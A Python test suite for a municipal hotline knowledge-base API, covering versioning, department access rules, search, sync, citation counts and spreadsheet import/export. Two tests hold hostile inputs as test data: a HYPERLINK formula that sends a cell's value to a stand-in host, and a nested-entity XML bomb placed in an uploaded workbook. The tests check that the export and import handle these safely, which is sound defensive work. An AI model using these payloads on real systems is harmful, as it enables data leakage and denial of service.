"""The knowledge base (知识库) through the HTTP API, on SQLite and PostgreSQL.

Drafts, versions, publishing and expiry with the audit chain; the authorization matrix of every
``/knowledge`` endpoint × every user of the small city (written out by hand), department scoping
(another department's draft answers 404, exactly as a missing one, and never reaches its sync);
search from a citizen's sentence; the desks' sync pages; citations by orders and the usage
report; xlsx export (text stays text) and import (all rows or none, problems by row number).
"""

from __future__ import annotations

import io
import uuid
import zipfile
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from casework.knowledge import query_terms
from server.audit.service import verify
from server.models import AuditRecord, KnowledgeUse, User
from tests.fixtures.city import USERS, Api, Clock

EVERYONE = tuple(u[0] for u in USERS)
CENTRE = frozenset({"agent"})
ADMIN = frozenset({"admin"})
ZJ = frozenset({"zj_handler", "zj_handler2", "zj_chief", "zj_head"})
ZJ_SUPERVISORS = frozenset({"zj_chief", "zj_head"})
CG = frozenset({"cg_handler", "cg_chief", "cg_head"})
SW = frozenset({"sw_handler", "sw_chief"})
DEPARTMENT_STAFF = ZJ | CG | SW
LEADERS = frozenset({"leader_zj", "leader_cg", "mayor"})
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

LAMP = {
    "title": "路灯不亮如何报修",
    "questions": ["小区门口路灯坏了找谁修", "晚上路灯一直不亮怎么办"],
    "answer": "城市道路路灯由市城市管理局路灯管理所负责维护，市民可拨打12345反映，一般3个工作日内修复。",
    "basis": {
        "document": "城市道路照明设施管理办法",
        "number": "市政发〔2023〕12号",
        "article": "第十条",
        "issuer": "市人民政府",
        "effective_from": "2023-05-01",
    },
    "keywords": ["路灯", "照明", "报修"],
    "category_code": "0201",
}
WATER = {
    "title": "计划停水信息查询",
    "questions": ["家里突然停水了什么时候来水", "停水通知在哪里看"],
    "answer": "计划停水会提前24小时在供水公司网站和小区公告栏公布；突发停水请拨打供水服务热线。",
    "keywords": ["停水", "供水"],
}
FUND = {
    "title": "住房公积金提取条件",
    "questions": ["租房可以提取公积金吗", "公积金怎么取出来"],
    "answer": "连续足额缴存满3个月，无自有住房且租房自住的，可申请提取住房公积金支付房租。",
    "keywords": ["公积金", "提取", "租房"],
}


def _entry(api: Api, as_: str, body: dict[str, Any], expect: int = 201) -> dict[str, Any]:
    response = api.post("/knowledge/entries", as_, json=body)
    assert response.status_code == expect, response.text
    return response.json()  # type: ignore[no-any-return]


def _published(api: Api, body: dict[str, Any], owner: str | None = None) -> dict[str, Any]:
    payload = dict(body)
    if owner:
        payload["department_id"] = api.department_id(owner)
    entry = _entry(api, "agent", payload)
    response = api.post(f"/knowledge/entries/{entry['id']}/publish", "agent", json={"version": entry["version"]})
    assert response.status_code == 200, response.text
    return response.json()  # type: ignore[no-any-return]


def _knowledge_audit(app: Any) -> list[AuditRecord]:
    with Session(app.state.engine) as session:
        return list(
            session.scalars(
                select(AuditRecord)
                .where(AuditRecord.action.like("knowledge_%") | AuditRecord.action.like("template_%"))
                .order_by(AuditRecord.seq)
            )
        )


# --- drafts, versions, publishing ------------------------------------------------------------


@pytest.mark.parametrize("written", [0, 1, "0", 20260101, "2027-01-01T00:00:00Z", "2027-1-1", 1.5, True])
def test_a_basis_date_is_only_a_written_day(api: Api, written: object) -> None:
    """Pydantic alone read 0 as 1970-01-01: a basis date is a YYYY-MM-DD string, nothing else."""
    for field in ("effective_from", "expires_on"):
        refused = api.post("/knowledge/entries", "agent", json={**LAMP, "basis": {**LAMP["basis"], field: written}})
        assert refused.status_code == 422, (field, written, refused.text)
        assert refused.json()["code"] == "invalid_input"
    entry = _entry(api, "agent", {**LAMP, "basis": {**LAMP["basis"], "expires_on": "2030-01-01"}})
    assert entry["basis"]["expires_on"] == "2030-01-01"


def test_a_department_proposes_the_centre_publishes_every_change_versioned_and_audited(api: Api, app: Any) -> None:
    zj = api.department_id("ZJJ")
    draft = _entry(api, "zj_handler", {**FUND, "category_code": "0102"})
    assert (draft["status"], draft["version"], draft["department_id"]) == ("draft", 1, zj)
    assert draft["author_id"] == api.user_id("zj_handler")

    # The department's chief improves it; a stale version is refused.
    edited = {**FUND, "answer": FUND["answer"] + "（每年可提取一次）", "version": 1}
    response = api.client.put(f"/knowledge/entries/{draft['id']}", json=edited, headers=api.login("zj_chief"))
    assert response.status_code == 200, response.text
    assert response.json()["version"] == 2
    stale = api.client.put(f"/knowledge/entries/{draft['id']}", json=edited, headers=api.login("zj_handler"))
    assert stale.status_code == 409 and stale.json()["code"] == "stale_version"

    # Only the centre publishes; the publisher is the reviewer.
    refused = api.post(f"/knowledge/entries/{draft['id']}/publish", "zj_head")
    assert refused.status_code == 403
    published = api.post(f"/knowledge/entries/{draft['id']}/publish", "agent", json={"version": 2}).json()
    assert (published["status"], published["version"]) == ("published", 3)
    assert published["reviewer_id"] == api.user_id("agent")
    # A published entry is the centre's to edit now.
    again = api.client.put(
        f"/knowledge/entries/{draft['id']}", json={**edited, "version": 3}, headers=api.login("zj_chief")
    )
    assert again.status_code == 409 and again.json()["code"] == "entry_not_draft"

    expired = api.post(f"/knowledge/entries/{draft['id']}/expire", "agent").json()
    assert expired["status"] == "expired"

    versions = api.get(f"/knowledge/entries/{draft['id']}/versions", "cg_handler").json()
    assert [(v["version"], v["action"], v["status"]) for v in versions] == [
        (1, "create", "draft"),
        (2, "edit", "draft"),
        (3, "publish", "published"),
        (4, "expire", "expired"),
    ]
    assert versions[0]["answer"] == FUND["answer"] and versions[1]["answer"].endswith("（每年可提取一次）")

    actions = [r.action for r in _knowledge_audit(app)]
    assert actions == ["knowledge_create", "knowledge_edit", "knowledge_publish", "knowledge_expire"]
    with Session(app.state.engine) as session:
        assert verify(session)[1] == []


# --- the authorization matrix ----------------------------------------------------------------

# Who sees a draft of 住建局 (ZJJ): its own staff and the centre (administrators read it too).
SEES_ZJ_DRAFT = ZJ | CENTRE | ADMIN


def test_read_matrix_another_departments_draft_answers_like_a_missing_one(api: Api) -> None:
    draft = _entry(api, "zj_handler", FUND)
    published = _published(api, WATER, "SWJ")
    missing = api.get("/knowledge/entries/999999", "cg_handler").json()
    problems = []
    for user in EVERYONE:
        for path in (f"/knowledge/entries/{draft['id']}", f"/knowledge/entries/{draft['id']}/versions"):
            response = api.get(path, user)
            expected = 200 if user in SEES_ZJ_DRAFT else 404
            if response.status_code != expected:
                problems.append(f"{user} GET {path}: {response.status_code}")
            elif expected == 404 and response.json() != missing:
                problems.append(f"{user} GET {path}: the 404 differs from a missing entry's")
        if api.get(f"/knowledge/entries/{published['id']}", user).status_code != 200:
            problems.append(f"{user}: cannot read a published entry")
        listed = {e["id"] for e in api.get("/knowledge/entries?status=draft", user).json()}
        if (draft["id"] in listed) != (user in SEES_ZJ_DRAFT):
            problems.append(f"{user}: GET /knowledge/entries lists the draft: {draft['id'] in listed}")
        found = {
            h["entry"]["id"]
            for h in api.get("/knowledge/search", user, params={"q": FUND["title"], "drafts": True}).json()
        }
        if (draft["id"] in found) != (user in SEES_ZJ_DRAFT):
            problems.append(f"{user}: search with drafts finds the draft: {draft['id'] in found}")
    assert not problems, "\n".join(problems)


def test_write_matrix_entries(api: Api) -> None:
    zj, cg = api.department_id("ZJJ"), api.department_id("CGJ")
    problems = []
    for user in EVERYONE:
        own = {**FUND, "title": f"公积金-{user}"}
        response = api.post("/knowledge/entries", user, json=own)
        expected = 201 if user in DEPARTMENT_STAFF | CENTRE else 403
        if response.status_code != expected:
            problems.append(f"{user} creates: {response.status_code} {response.text[:100]}")
        # Naming another department: only the centre may.
        foreign = api.post("/knowledge/entries", user, json={**own, "department_id": cg if user not in CG else zj})
        expected = 201 if user in CENTRE else 403
        if foreign.status_code != expected:
            problems.append(f"{user} creates for another department: {foreign.status_code}")
    # Editing a ZJJ draft; publishing and expiring.
    for user in EVERYONE:
        draft = _entry(api, "zj_handler", {**FUND, "title": f"草稿-{user}"})
        response = api.client.put(
            f"/knowledge/entries/{draft['id']}", json={**FUND, "version": 1}, headers=api.login(user)
        )
        expected = 200 if user in ZJ | CENTRE else (403 if user in ADMIN else 404)
        if response.status_code != expected:
            problems.append(f"{user} edits a ZJJ draft: {response.status_code} {response.text[:100]}")
        publish = api.post(f"/knowledge/entries/{draft['id']}/publish", user)
        expected = 200 if user in CENTRE else (403 if user in ZJ | ADMIN else 404)
        if publish.status_code != expected:
            problems.append(f"{user} publishes a ZJJ draft: {publish.status_code}")
        entry = _published(api, {**WATER, "title": f"发布-{user}"}, "SWJ")
        expire = api.post(f"/knowledge/entries/{entry['id']}/expire", user)
        if expire.status_code != (200 if user in CENTRE else 403):
            problems.append(f"{user} expires: {expire.status_code}")
    assert not problems, "\n".join(problems)


def _supervisor(app: Any, api: Api) -> str:
    """A centre supervisor (值班长), made for this test (the small city has none)."""
    from casework.roles import Role
    from casework.schemas import UserIn
    from server.org.service import create_user
    from tests.fixtures.city import PASSWORD

    with Session(app.state.engine) as session:
        centre = session.scalar(select(User.department_id).where(User.username == "agent"))
        create_user(
            session,
            UserIn(
                username="duty", name="值班长", role=Role.CENTRE_SUPERVISOR, department_id=centre, password=PASSWORD
            ),
            None,
            api.client.app.state.clock(),  # type: ignore[attr-defined]
        )
        session.commit()
    return "duty"


def test_template_matrix(api: Api, app: Any) -> None:
    duty = _supervisor(app, api)
    zj = api.department_id("ZJJ")
    may_city = {duty} | ADMIN
    problems = []
    for user in (*EVERYONE, duty):
        city = api.post("/knowledge/templates", user, json={"title": f"开头-{user}", "body": "{称呼}您好！"})
        if city.status_code != (201 if user in may_city else 403):
            problems.append(f"{user} creates a city template: {city.status_code}")
        own = api.post(
            "/knowledge/templates", user, json={"department_id": zj, "title": f"住建-{user}", "body": "经核实，"}
        )
        if own.status_code != (201 if user in ZJ_SUPERVISORS else 403):
            problems.append(f"{user} creates a ZJJ template: {own.status_code}")
    template = api.post(
        "/knowledge/templates", "zj_chief", json={"department_id": zj, "title": "结尾", "body": "感谢监督。"}
    ).json()
    for user in (*EVERYONE, duty):
        listed = {t["id"] for t in api.get("/knowledge/templates", user).json()}
        visible = user in ZJ | may_city
        if (template["id"] in listed) != visible:
            problems.append(f"{user} lists the ZJJ template: {template['id'] in listed}")
        response = api.client.put(
            f"/knowledge/templates/{template['id']}",
            json={"title": "结尾", "body": f"感谢您的监督。{user}", "version": template["version"]},
            headers=api.login(user),
        )
        expected = 200 if user in ZJ_SUPERVISORS else (403 if visible else 404)
        if response.status_code != expected:
            problems.append(f"{user} edits the ZJJ template: {response.status_code}")
        if response.status_code == 200:
            template = response.json()
    withdrawn = api.client.delete(
        f"/knowledge/templates/{template['id']}", params={"version": template["version"]}, headers=api.login("zj_head")
    )
    assert withdrawn.status_code == 204
    assert template["id"] not in {t["id"] for t in api.get("/knowledge/templates", "zj_handler").json()}
    assert not problems, "\n".join(problems)
    assert {r.action for r in _knowledge_audit(app)} == {"template_create", "template_edit", "template_withdraw"}


def test_import_export_and_usage_matrix(api: Api) -> None:
    book = _workbook([["", "新条目", "", "答复", "", "", "", "", "", "", "", "", "", "", ""]])
    problems = []
    for user in EVERYONE:
        export = api.get("/knowledge/export.xlsx", user)
        if export.status_code != (200 if user in CENTRE else 403):
            problems.append(f"{user} exports: {export.status_code}")
        imported = api.client.post("/knowledge/import", content=book, headers={**api.login(user), "Content-Type": XLSX})
        if imported.status_code != (200 if user in CENTRE else 403):
            problems.append(f"{user} imports: {imported.status_code}")
        if api.get("/knowledge/usage", user).status_code != 200:
            problems.append(f"{user}: usage")
        if api.get("/knowledge/sync", user).status_code != 200:
            problems.append(f"{user}: sync")
    assert not problems, "\n".join(problems)


# --- search ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("sentence", "expected"),
    [
        ("你好，我家楼下的路灯坏了好几天了，晚上特别黑，找谁修啊？", "路灯不亮如何报修"),
        ("请问我们小区突然停水了，什么时候能来水", "计划停水信息查询"),
        ("我在外地租房子住，公积金能不能取出来交房租", "住房公积金提取条件"),
    ],
)
def test_a_citizens_sentence_finds_the_right_entry(api: Api, sentence: str, expected: str) -> None:
    for body in (LAMP, WATER, FUND):
        _published(api, body)
    _entry(api, "agent", {**LAMP, "title": "路灯不亮（草稿）"})  # drafts are not offered by default
    hits = api.get("/knowledge/search", "cg_handler", params={"q": sentence}).json()
    assert hits, sentence
    assert hits[0]["entry"]["title"] == expected
    assert all(h["entry"]["status"] == "published" for h in hits)
    assert [h["score"] for h in hits] == sorted((h["score"] for h in hits), reverse=True)
    best = hits[0]
    fields = {
        "title": best["entry"]["title"],
        "questions": "\n".join(best["entry"]["questions"]),
        "answer": best["entry"]["answer"],
    }
    assert best["highlights"]
    for start, end, field in best["highlights"]:
        painted = fields[field][start:end].lower()
        assert any(term in painted for term in query_terms(sentence)), painted


def test_search_without_terms_or_hits_is_empty(api: Api) -> None:
    _published(api, LAMP)
    assert api.get("/knowledge/search", "agent", params={"q": "的了吗？"}).json() == []
    assert api.get("/knowledge/search", "agent", params={"q": "火星移民签证"}).json() == []
    assert api.get("/knowledge/search", "agent", params={"q": "x" * 501}).status_code == 422


# --- sync ------------------------------------------------------------------------------------


def _pull(api: Api, user: str, cursor: str | None = None, limit: int = 500) -> list[dict[str, Any]]:
    pages = []
    while True:
        params: dict[str, Any] = {"limit": limit}
        if cursor:
            params["cursor"] = cursor
        page = api.get("/knowledge/sync", user, params=params).json()
        pages.append(page)
        cursor = page["cursor"]
        if not page["more"]:
            return pages


def test_sync_pages_what_a_desk_keeps_and_what_left_it(api: Api) -> None:
    cg = api.department_id("CGJ")
    lamp = _published(api, LAMP)
    water = _published(api, WATER)
    zj_draft = _entry(api, "zj_handler", FUND)
    cg_draft = _entry(api, "cg_handler", {**FUND, "title": "城管草稿"})
    city = api.post("/knowledge/templates", "admin", json={"title": "开头", "body": "{称呼}您好！"}).json()
    cg_template = api.post(
        "/knowledge/templates", "cg_chief", json={"department_id": cg, "title": "城管", "body": "经查，"}
    ).json()

    pages = _pull(api, "zj_handler", limit=2)
    assert [len(p["entries"]) + len(p["templates"]) for p in pages] == [2, 2]  # 3 entries and a template
    assert not any(p["removed_entry_ids"] for p in pages)
    held = {e["id"] for p in pages for e in p["entries"]}
    assert held == {lamp["id"], water["id"], zj_draft["id"]}  # never the other department's draft
    assert {t["id"] for p in pages for t in p["templates"]} == {city["id"]}
    cursor = pages[-1]["cursor"]
    assert _pull(api, "zj_handler", cursor)[0]["entries"] == []

    # The centre expires one, moves the ZJJ draft to CGJ, and a template is withdrawn.
    api.post(f"/knowledge/entries/{water['id']}/expire", "agent")
    moved = api.client.put(
        f"/knowledge/entries/{zj_draft['id']}",
        json={**FUND, "department_id": cg, "version": zj_draft["version"]},
        headers=api.login("agent"),
    )
    assert moved.status_code == 200
    api.client.delete(f"/knowledge/templates/{city['id']}", params={"version": 1}, headers=api.login("admin"))
    api.client.delete(f"/knowledge/templates/{cg_template['id']}", params={"version": 1}, headers=api.login("cg_chief"))
    after = _pull(api, "zj_handler", cursor)
    assert sorted(i for p in after for i in p["removed_entry_ids"]) == sorted([water["id"], zj_draft["id"]])
    assert [i for p in after for i in p["removed_template_ids"]] == [city["id"]]  # never CGJ's
    assert not any(p["entries"] for p in after)
    # CGJ's desk now holds the moved draft; ZJJ never saw CGJ's own draft's id.
    cg_held = {e["id"] for p in _pull(api, "cg_handler") for e in p["entries"]}
    assert {zj_draft["id"], cg_draft["id"]} <= cg_held
    assert all(cg_draft["id"] not in p["removed_entry_ids"] for p in pages + after)
    # A made-up cursor is refused; one made for another user's scope starts over.
    assert api.get("/knowledge/sync", "zj_handler", params={"cursor": "bm9wZQ"}).status_code == 422
    other = api.get("/knowledge/sync", "cg_handler", params={"cursor": cursor}).json()
    assert other["reset"] is True


# --- citations and usage ---------------------------------------------------------------------


def test_orders_record_the_entries_they_cite_and_usage_counts_them(api: Api, app: Any, clock: Clock) -> None:
    lamp = _published(api, LAMP)
    fund = _published(api, FUND)
    draft = _entry(api, "cg_handler", {**WATER, "title": "城管草稿"})

    closed = api.intake(kind="consultation", title="公积金提取咨询")
    api.command(closed["id"], "close_at_once", "agent", reply=fund["answer"], knowledge_entry_ids=[fund["id"]])

    oid = api.dispatched("ZJJ")["id"]
    api.command(oid, "sign", "zj_chief")
    # Unknown entries and another department's drafts are refused, naming them.
    refused = api.command(
        oid,
        "submit_reply",
        "zj_handler",
        expect=422,
        text="已修复。",
        result_code="resolved",
        knowledge_entry_ids=[lamp["id"], 999999, draft["id"]],
    )
    assert refused["code"] == "unknown_knowledge_entry" and refused["detail"]["ids"] == [999999, draft["id"]]
    api.command(
        oid,
        "submit_reply",
        "zj_handler",
        text="已修复。",
        result_code="resolved",
        knowledge_entry_ids=[lamp["id"], fund["id"], lamp["id"]],
    )
    with Session(app.state.engine) as session:
        assert session.scalar(select(func.count(KnowledgeUse.id))) == 3

    # The lamp entry expires but is still cited.
    api.post(f"/knowledge/entries/{lamp['id']}/expire", "agent")
    again = api.dispatched("ZJJ")["id"]
    api.command(again, "sign", "zj_chief")
    api.command(
        again, "submit_reply", "zj_handler", text="已修复。", result_code="resolved", knowledge_entry_ids=[lamp["id"]]
    )

    month = clock.now.strftime("%Y-%m")
    report = api.get("/knowledge/usage", "agent", params={"month": month}).json()
    uses = {r["entry_id"]: r["uses"] for r in report["entries"]}
    assert uses == {lamp["id"]: 2, fund["id"]: 2}
    assert [r["entry_id"] for r in report["expired_cited"]] == [lamp["id"]]
    assert api.get("/knowledge/usage", "agent", params={"month": "2020-01"}).json()["entries"] == []
    assert api.get("/knowledge/usage", "agent", params={"month": "2026-13"}).status_code == 422
    # A department sees its own entries' usage only (these are the centre's).
    assert api.get("/knowledge/usage", "zj_chief", params={"month": month}).json()["entries"] == []


def test_a_saved_draft_keeps_the_entries_it_cites_until_its_reply_counts_them(api: Api, clock: Clock) -> None:
    """保存草稿 keeps the citations with the draft: reopened (or pulled on another PC, or read by the
    chief) the draft names them with their titles, and the reply submitted from it counts them."""
    lamp = _published(api, LAMP)
    fund = _published(api, FUND)
    other = _entry(api, "cg_handler", {**WATER, "title": "城管草稿"})
    oid = api.dispatched("ZJJ")["id"]
    api.command(oid, "sign", "zj_chief")
    draft = {"text": LAMP["answer"], "result_code": "resolved", "basis": "第十条"}
    # Refused as a reply's citations are: another department's draft entry, an unknown one.
    refused = api.command(
        oid, "save_draft", "zj_handler", expect=422, **draft, knowledge_entry_ids=[lamp["id"], other["id"], 999999]
    )
    assert refused["code"] == "unknown_knowledge_entry" and refused["detail"]["ids"] == [other["id"], 999999]
    assert api.order(oid, "zj_handler")["draft"] is None

    api.command(oid, "save_draft", "zj_handler", **draft, knowledge_entry_ids=[lamp["id"], fund["id"], lamp["id"]])
    cited = [{"id": lamp["id"], "title": LAMP["title"]}, {"id": fund["id"], "title": FUND["title"]}]
    for user in ("zj_handler", "zj_chief", "agent"):  # whoever sees the draft sees what it cites
        assert api.order(oid, user)["draft"]["knowledge_entries"] == cited
        pulled = {
            c["order_id"]: c["order"] for c in api.get("/sync/pull", user, params={"limit": 1000}).json()["changes"]
        }
        assert pulled[oid]["draft"]["knowledge_entries"] == cited  # the stored view too

    # Reopened: the reply is submitted with the draft's citations, and they are counted.
    ids = [e["id"] for e in api.order(oid, "zj_handler")["draft"]["knowledge_entries"]]
    api.command(oid, "submit_reply", "zj_handler", **draft, knowledge_entry_ids=ids)
    report = api.get("/knowledge/usage", "agent", params={"month": clock.now.strftime("%Y-%m")}).json()
    assert {r["entry_id"]: r["uses"] for r in report["entries"]} == {lamp["id"]: 1, fund["id"]: 1}
    # The draft is the reply under review now, its citations with it (the reviewer sees them); a
    # draft saved again without them cites nothing.
    assert api.order(oid, "zj_chief")["draft"]["knowledge_entries"] == cited
    api.command(oid, "return_for_rework", "zj_chief", comment="请补充整改时限")
    assert api.order(oid, "zj_handler")["draft"]["knowledge_entries"] == cited
    api.command(oid, "save_draft", "zj_handler", **draft)
    assert api.order(oid, "zj_handler")["draft"]["knowledge_entries"] == []


# --- spreadsheets ----------------------------------------------------------------------------

HEADER = [
    "编号",
    "标题",
    "常见问法",
    "标准答复",
    "文件名称",
    "文号",
    "条款",
    "发文机关",
    "生效日期",
    "失效日期",
    "分类",
    "所属单位",
    "关键词",
    "状态",
    "版本",
]


def _workbook(rows: list[list[Any]]) -> bytes:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(HEADER)
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _import(api: Api, data: bytes) -> Any:
    return api.client.post("/knowledge/import", content=data, headers={**api.login("agent"), "Content-Type": XLSX})


def test_export_keeps_text_as_text(api: Api) -> None:
    hostile = {**LAMP, "title": '=HYPERLINK("http://x.example/?"&A2,"点我")', "questions": ["+1+1", "@SUM(A1)"]}
    _published(api, hostile)
    response = api.get("/knowledge/export.xlsx", "agent")
    assert response.status_code == 200 and response.headers["content-type"] == XLSX
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    assert [c.value for c in sheet[1]] == HEADER
    title, questions = sheet.cell(row=2, column=2), sheet.cell(row=2, column=3)
    assert title.value == hostile["title"] and title.data_type == "s"
    assert questions.value == "+1+1\n@SUM(A1)" and questions.data_type == "s"
    assert sheet.cell(row=2, column=14).value == "已发布"


def test_export_replaces_characters_a_workbook_cannot_hold(api: Api) -> None:
    """A control character in an entry once failed the export with a 500 (openpyxl refuses it)."""
    _published(api, {**LAMP, "title": "路灯\x1b[31m不亮", "answer": "请拨打\x0b电话\x07。"})
    response = api.get("/knowledge/export.xlsx", "agent")
    assert response.status_code == 200, response.text
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    assert sheet.cell(row=2, column=2).value == "路灯\ufffd[31m不亮"
    assert sheet.cell(row=2, column=4).value == "请拨打\ufffd电话\ufffd。"


def test_an_entity_bomb_in_an_imported_sheet_is_a_bad_workbook(api: Api) -> None:
    """expat stops the bomb, but a read-only sheet is parsed while its rows are read: it was a 500."""
    entities = '<!ENTITY a0 "lol">' + "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10))
    source = zipfile.ZipFile(io.BytesIO(_workbook([["", "路灯", "", "报修"] + [""] * 11])))
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in source.namelist():
            content = source.read(name)
            if name == "xl/worksheets/sheet1.xml":
                xml = content.decode()
                xml = xml[xml.index("?>") + 2 :] if xml.startswith("<?xml") else xml
                content = f"<!DOCTYPE worksheet [{entities}]>{xml}".replace("<t>路灯</t>", "<t>&a9;</t>").encode()
            archive.writestr(name, content)
    response = _import(api, bomb.getvalue())
    assert response.status_code == 422, response.text
    assert response.json()["code"] == "bad_workbook"


def test_import_is_all_or_nothing_with_row_numbered_problems(api: Api, app: Any) -> None:
    bad = _workbook(
        [
            [
                "",
                "路灯不亮如何报修",
                "路灯坏了找谁\n晚上不亮",
                "拨打12345。",
                "办法",
                "",
                "",
                "",
                "2023-05-01",
                "",
                "噪声扰民",
                "CGJ",
                "路灯、照明",
                "已发布",
                "",
            ],
            ["", "", "", "没有标题", "", "", "", "", "", "", "", "", "", "", ""],
            ["", "标题", "", "答复", "", "", "", "", "不是日期", "", "", "无此单位", "", "作废", ""],
            ["999999", "标题", "", "答复", "", "", "", "", "", "", "", "", "", "", ""],
        ]
    )
    response = _import(api, bad)
    assert response.status_code == 422, response.text
    body = response.json()
    assert body["code"] == "import_rejected"
    found = {(p["row"], p["column"]) for p in body["detail"]}
    assert found == {(3, "标题"), (4, "生效日期"), (4, "所属单位"), (4, "状态"), (5, "编号")}
    assert api.get("/knowledge/entries", "agent").json() == []  # nothing half-imported

    good = _workbook(
        [
            [
                "",
                "路灯不亮如何报修",
                "路灯坏了找谁\n晚上不亮",
                "=拨打12345。",
                "办法",
                "",
                "",
                "",
                "2023-05-01",
                "",
                "噪声扰民",
                "CGJ",
                "路灯、照明",
                "已发布",
                "",
            ],
            ["", "停水查询", "", "看公告。", "", "", "", "", "", "", "0301", "水务局", "停水", "", ""],
        ]
    )
    response = _import(api, good)
    assert response.status_code == 200, response.text
    assert response.json() == {"created": 2, "updated": 0}
    entries = {e["title"]: e for e in api.get("/knowledge/entries", "agent").json()}
    lamp = entries["路灯不亮如何报修"]
    assert lamp["status"] == "published" and lamp["answer"] == "=拨打12345。"
    assert lamp["questions"] == ["路灯坏了找谁", "晚上不亮"] and lamp["keywords"] == ["路灯", "照明"]
    assert lamp["category_code"] == "0201" and lamp["department_id"] == api.department_id("CGJ")
    assert lamp["basis"]["effective_from"] == "2023-05-01"
    assert entries["停水查询"]["status"] == "draft"
    # Re-importing the export updates in place (a new version), at the version it names.
    exported = api.get("/knowledge/export.xlsx", "agent").content
    response = _import(api, exported)
    assert response.json() == {"created": 0, "updated": 2}
    assert api.get(f"/knowledge/entries/{lamp['id']}", "agent").json()["version"] == lamp["version"] + 1
    stale = _import(api, exported)
    assert stale.status_code == 422 and {p["column"] for p in stale.json()["detail"]} == {"版本"}
    assert _import(api, b"not a workbook").json()["code"] == "bad_workbook"
    wrong_type = api.client.post(
        "/knowledge/import", content=good, headers={**api.login("agent"), "Content-Type": "text/csv"}
    )
    assert wrong_type.status_code == 415


def test_a_desk_pushing_its_offline_reply_records_the_entries_it_cites(api: Api, app: Any) -> None:
    lamp = _published(api, LAMP)
    oid = api.dispatched("ZJJ")["id"]
    api.command(oid, "sign", "zj_chief")
    reply = {"text": "已修复。", "result_code": "resolved", "knowledge_entry_ids": [lamp["id"]]}
    mutation = {"id": str(uuid.uuid4()), "order_id": oid, "name": "submit_reply", "args": reply, "base": {}}
    response = api.post("/sync/push", "zj_handler", json={"client_id": "desk-0001", "mutations": [mutation]})
    assert response.status_code == 200, response.text
    assert response.json()["results"][0]["status"] == "applied", response.text
    with Session(app.state.engine) as session:
        uses = session.execute(select(KnowledgeUse.order_id, KnowledgeUse.entry_id, KnowledgeUse.command)).all()
    assert uses == [(oid, lamp["id"], "submit_reply")]


def test_without_the_fts5_table_sqlite_search_scans_alike(api: Api, app: Any) -> None:
    """A SQLite without FTS5's trigram tokenizer gets no knowledge_fts (0009): the LIKE path answers."""
    if app.state.engine.dialect.name != "sqlite":
        pytest.skip("SQLite only")
    _published(api, LAMP)
    _published(api, WATER)
    with app.state.engine.begin() as connection:
        for trigger in ("knowledge_fts_ai", "knowledge_fts_ad", "knowledge_fts_au"):
            connection.exec_driver_sql(f"DROP TRIGGER {trigger}")
        connection.exec_driver_sql("DROP TABLE knowledge_fts")
    hits = api.get("/knowledge/search", "agent", params={"q": "家里突然停水了，什么时候来水"}).json()
    assert [h["entry"]["title"] for h in hits][:1] == ["计划停水信息查询"]
    assert _entry(api, "agent", FUND)["title"] == FUND["title"]  # writing needs no FTS table either
